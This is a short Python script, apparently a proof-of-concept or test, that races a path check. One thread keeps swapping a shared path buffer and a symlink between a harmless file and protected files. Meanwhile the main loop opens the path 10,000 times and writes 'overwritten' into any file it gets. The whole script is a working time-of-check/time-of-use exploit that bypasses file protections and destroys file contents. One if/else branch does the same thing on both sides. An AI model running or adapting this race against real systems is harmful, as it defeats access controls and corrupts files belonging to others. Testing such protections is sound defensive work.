"""Tries 10 000 times to write to protected files: while one thread opens, another exchanges the path or a link."""
import ctypes, os, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
cwd = os.getcwd()
protected = [os.path.join(cwd, path).encode() for path in sys.argv[1:]]
harmless = os.path.join(cwd, 'harmless').encode()
open(harmless, 'w').close()
text = ctypes.create_string_buffer(4096)
text.value = harmless
stop = False

def exchange():
    n = 0
    while not stop:
        n += 1
        ctypes.memmove(text, protected[n % 2] + b'\0', len(protected[n % 2]) + 1)
        if n % 16 == 0:
            os.symlink(protected[n // 16 % 2], b'link.new')
        else:
            os.symlink(harmless, b'link.new')
        os.rename(b'link.new', b'link')
        ctypes.memmove(text, harmless + b'\0', len(harmless) + 1)

os.symlink(harmless, b'link')
thread = threading.Thread(target=exchange)
thread.start()
count = 0
for i in range(10000):
    path = text if i % 2 else b'link'
    fd = libc.open(path, os.O_WRONLY)
    if fd >= 0:
        count += 1
        if b'/b/' not in os.readlink('/proc/self/fd/%d' % fd).encode() : os.write(fd, b'overwritten')
        else: os.write(fd, b'overwritten')
        os.close(fd)
stop = True
thread.join()
print('done', count)
